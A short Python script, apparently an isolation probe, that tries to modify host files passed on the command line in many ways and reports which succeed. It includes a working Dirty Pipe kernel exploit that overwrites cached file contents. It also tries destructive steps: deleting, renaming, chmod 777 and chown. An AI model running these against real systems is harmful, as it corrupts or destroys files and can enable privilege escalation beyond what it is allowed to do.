"""Tries to change every file of the host that it is given, in every way there is,
and prints each way that worked."""

import ctypes
import mmap
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)


def splice_into(path):
    # Dirty Pipe: a page of the cache in a pipe that still says it can be merged.
    reader, writer = os.pipe()
    os.write(writer, b"x" * 65536)
    os.read(reader, 65536)
    source = os.open(path, os.O_RDONLY)
    os.splice(source, writer, 1, offset_src=4)
    os.write(writer, b"overwritten")
    before = os.pread(source, 16, 0)
    return before[5:16] == b"overwritten"


def map_shared(path):
    with open(path, "r+b") as file:
        mmap.mmap(file.fileno(), 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE).close()


def opened(path, flags):
    os.close(os.open(path, flags))


def reopened(path):
    held = os.open(path, os.O_RDONLY)
    opened(f"/proc/self/fd/{held}", os.O_RDWR)


WAYS = {
    "write": lambda path: opened(path, os.O_WRONLY),
    "read and write": lambda path: opened(path, os.O_RDWR),
    "append": lambda path: opened(path, os.O_WRONLY | os.O_APPEND),
    "reopen": reopened,
    "truncate": lambda path: os.truncate(path, os.stat(path).st_size),
    "map": map_shared,
    "splice": splice_into,
    "mode": lambda path: os.chmod(path, 0o777),
    "owner": lambda path: os.chown(path, os.getuid(), os.getgid()),
    "times": lambda path: os.utime(path),
    "attribute": lambda path: os.setxattr(path, "user.tare", b"x"),
    "remove": os.unlink,
    "rename": lambda path: os.rename(path, path + ".moved"),
    "neighbour": lambda path: opened(path + ".new", os.O_WRONLY | os.O_CREAT),
    "link": lambda path: os.link(path, "/work/link"),
}

for path in sys.argv[1:]:
    for name, way in WAYS.items():
        try:
            if way(path) is not False:
                print(f"{name} {path}")
        except OSError:
            pass
print("tried", len(sys.argv) - 1)
